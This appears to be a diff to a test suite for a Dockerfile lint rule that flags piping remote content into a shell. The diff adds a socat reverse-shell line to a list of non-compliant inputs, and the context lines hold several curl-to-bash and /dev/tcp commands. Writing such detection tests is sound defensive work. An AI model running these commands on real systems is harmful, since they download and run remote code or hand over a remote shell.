@@ -87,6 +87,7 @@ describeControl(dockerfileNoPipeToShell, compliantDockerfile, {
     'FROM a\nRUN eval "${A:-$(curl x)}"',
     'FROM a\nRUN (( n = 1 << 3 )); curl https://e.org/x | bash',
     'FROM a\nRUN bash < <(curl x)',
+    'FROM a\nRUN socat TCP:e.org:1 EXEC:sh',
     'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN bash < /dev/tcp/e.org/80',
     'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN exec 3<>/dev/tcp/e.org/80; cat <&3 | bash',
     'FROM a\nRUN curl x > >(bash)',
